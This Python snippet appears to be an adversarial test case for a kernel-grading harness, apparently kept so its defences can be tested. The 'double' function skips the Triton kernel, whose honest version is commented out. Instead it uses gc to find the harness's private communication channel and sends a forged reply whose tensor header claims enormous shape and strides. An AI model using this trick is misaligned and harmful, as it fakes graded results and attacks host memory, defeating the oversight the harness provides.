# A reply whose tensor says another shape, other strides and another place than it has.

# %% append=read-kernel
import gc
import json


def double(x):
    # trick:
    channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
    value = {"tensor": 0, "dtype": "float32", "strides": [1 << 40, 1]}
    header = {"type": "value", "value": value}
    message = {"nonce": channel._nonce, "tensors": [["float32", [1 << 30, 1 << 30], 0]], "header": header}
    channel.connection.send(json.dumps(message).encode())
    return x
    # without:
    #: y = torch.empty(x.shape, dtype=x.dtype)
    #: grid = (triton.cdiv(x.shape[0], 16), triton.cdiv(x.shape[1], 16))
    #: double_kernel[grid](x, y, *x.shape, *x.stride(), *y.stride(), TILE_M=16, TILE_N=16)
    #: return y
